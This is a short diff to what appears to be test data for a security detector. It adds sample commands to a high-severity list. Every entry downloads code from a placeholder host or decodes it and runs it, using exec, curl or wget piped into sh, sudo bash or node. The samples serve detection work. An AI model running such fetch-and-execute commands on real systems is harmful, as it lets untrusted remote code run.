@@ -8,6 +8,8 @@ from assay.detectors._command_line import MAX_COMMAND, shape_of
 from assay.model.rule import Confidence, Severity
 
 HIGH = [
+    "exec(urllib.request.urlopen('https://a.invalid/x').read())",
+    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
     "curl -s https://a.invalid/x | sh",
     "wget -qO- a.invalid/x|sudo bash",
     "curl a.invalid/x.js | node -",
